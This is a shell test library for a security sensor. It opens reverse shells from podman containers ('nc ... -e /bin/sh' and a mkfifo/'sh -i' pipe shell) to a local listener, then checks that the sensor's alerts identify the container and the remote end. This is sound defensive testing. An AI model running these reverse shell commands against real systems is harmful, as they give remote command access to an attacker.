# shells.sh: remote shells in containers and what their alerts must say, for the container tests
# that watch them (sourced after lib.sh, containers/lib.sh, shells/techniques.sh and
# shells/detect.sh; the caller sets json, the alerts file of the sensor under test).
#   ctr_shells_all    the three shells and the benign workload below, each with its checks:
#     bridge:   busybox `nc GW PORT -e /bin/sh` in a container of its own network namespace,
#               against a listener on the host's side of podman's bridge (the gateway)
#     fifo:     busybox `sh -i` through a fifo and `nc` (a shell with redirections), same network
#     hostnet:  `nc 127.0.0.1 PORT -e /bin/sh` in a container on the host's network
#     benign:   a container that lists, counts and sleeps: no alert
# Each alert must name the gateway (or 127.0.0.1) and port as its remote end, and its container:
# container.id the container's, container.runtime podman, process.vpid; with CTR_EXPECT_META=1
# also container.name and container.image.name (the sensor asked podman's API).

# ctr_listen WHAT HOST: the attacker's listener (tests/shells/listener.py) on HOST, a port the
# kernel picks; sets port and out (what the shell sent back). Fails (with a TAP line) when it
# does not come up.
ctr_listen() {
	local what=$1 host=$2 pf=$SW_TMP/$1.port
	out=$SW_TMP/$1.out port=
	"$SW_PY" "$SW_ROOT/tests/shells/listener.py" listen --host "${host:-none}" --port-file "$pf" \
		--out "$out" --send 'echo sw-pid=$$; id; exit' --timeout 30 2>"$out.err" &
	if [ -z "$host" ] || ! wait_until 10 test -s "$pf"; then
		tap_fail "$what: a listener on ${host:-?}" "$(cat "$out.err" 2>/dev/null)"
		return 1
	fi
	port=$(<"$pf")
}

# has_alert PORT: an alert with PORT as its remote (or local) port is in the output.
has_alert() { sw_alert_fields "$json" "$1" process.pid >/dev/null; }

# ctr_alert_checks WHAT CONTAINER_ID NAME PORT ADDR
ctr_alert_checks() {
	local what=$1 cid=$2 name=$3 port=$4 addr=$5 got
	check "$what: reported within 2 s" wait_until 2 has_alert "$port"
	# the first alert of the shell
	got=$(sw_alert_fields "$json" "$port" destination.ip destination.port container.id \
		container.runtime process.vpid container.name container.image.name | head -n 1)
	echo "# $what: destination.ip .port container.id .runtime process.vpid container.name .image: $got"
	read -r d_ip d_port c_id c_rt vpid c_name c_image <<<"$got"
	check "$what: the remote end is $addr:$port" test "$d_ip:$d_port" = "$addr:$port"
	check "$what: container.id is the container's (${cid:0:12})" test -n "$cid" -a "$c_id" = "$cid"
	check "$what: container.runtime is podman" test "$c_rt" = podman
	check "$what: process.vpid is there (the pid in the container)" test "$vpid" != -
	if [ "${CTR_EXPECT_META:-0}" = 1 ]; then
		check "$what: container.name is $name" test "$c_name" = "$name"
		check "$what: container.image.name is $SW_CTR_IMAGE" test "$c_image" = "$SW_CTR_IMAGE"
	fi
}

ctr_shell_bridge() {
	local gw port out name
	gw=$(ctr_gateway) port=$(free_port) out=$SW_TMP/bridge.out
	printf 'echo sw-pid=$$; ip -4 -o addr show eth0; id; exit\n' |
		socat -d -d -t 5 TCP-LISTEN:"$port",bind="$gw",reuseaddr STDIO >"$out" 2>"$out.err" &
	if [ -z "$gw" ] || ! wait_until 10 listening "$port"; then
		tap_fail "bridge: a listener on the gateway ${gw:-?}:$port" "$(cat "$out.err" 2>/dev/null)"
		return
	fi
	name=$(ctr_name bridge)
	ctr_run --rm --name "$name" --cidfile "$SW_TMP/bridge.cid" "$SW_CTR_IMAGE" \
		nc "$gw" "$port" -e /bin/sh >/dev/null 2>&1 &
	check "bridge: the container's shell reached $gw:$port and ran id" \
		wait_until 30 grep -q 'uid=' "$out"
	ip=$(grep -o 'inet [0-9.]*' "$out" | head -n 1 | cut -d' ' -f2)
	peer=$(grep -o 'accepting connection from AF=2 [0-9.]*' "$out.err" | awk '{print $NF}')
	echo "# bridge: the container's eth0 is ${ip:-?}; the listener saw ${peer:-?}"
	check "bridge: the host sees the container's own address (${ip:-?}), not a NAT'd one" \
		test -n "$ip" -a "$ip" = "$peer"
	ctr_alert_checks "bridge" "$(cat "$SW_TMP/bridge.cid" 2>/dev/null)" "$name" "$port" "$gw"
}

ctr_shell_fifo() {
	local gw name
	gw=$(ctr_gateway)
	ctr_listen fifo "$gw" || return
	name=$(ctr_name fifo)
	ctr_run --rm --name "$name" --cidfile "$SW_TMP/fifo.cid" "$SW_CTR_IMAGE" sh -c \
		"mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc $gw $port >/tmp/f" >/dev/null 2>&1 &
	check "fifo: the container's shell reached $gw:$port and ran id" \
		wait_until 30 grep -qs 'uid=' "$out"
	ctr_alert_checks "fifo" "$(cat "$SW_TMP/fifo.cid" 2>/dev/null)" "$name" "$port" "$gw"
}

ctr_shell_hostnet() {
	local name
	ctr_listen hostnet 127.0.0.1 || return
	name=$(ctr_name hostnet)
	ctr_run --rm --name "$name" --network host --cidfile "$SW_TMP/hostnet.cid" "$SW_CTR_IMAGE" \
		nc 127.0.0.1 "$port" -e /bin/sh >/dev/null 2>&1 &
	check "host network: the container's shell ran id" wait_until 30 grep -qs 'uid=' "$out"
	ctr_alert_checks "host network" "$(cat "$SW_TMP/hostnet.cid" 2>/dev/null)" "$name" "$port" \
		127.0.0.1
}

ctr_benign() {
	local name cid
	name=$(ctr_name benign)
	ctr_run --rm --name "$name" --cidfile "$SW_TMP/benign.cid" "$SW_CTR_IMAGE" \
		sh -c 'ls / >/dev/null; echo hello | wc -c; sleep 1' >/dev/null 2>&1
	cid=$(cat "$SW_TMP/benign.cid" 2>/dev/null)
	# any alert naming the container counts
	check "benign container (${cid:0:12}): no alert" test -n "$cid" -a \
		"$(grep -c "\"id\":\"$cid\"" "$json" 2>/dev/null)" = 0
}

ctr_shells_all() {
	local anchor
	anchor=$(ctr_name anchor)   # keeps podman's bridge up while the listeners bind its address
	ctr_run -d --name "$anchor" "$SW_CTR_IMAGE" sleep 300 >/dev/null 2>&1
	ctr_shell_bridge
	ctr_shell_fifo
	ctr_shell_hostnet
	ctr_benign
}
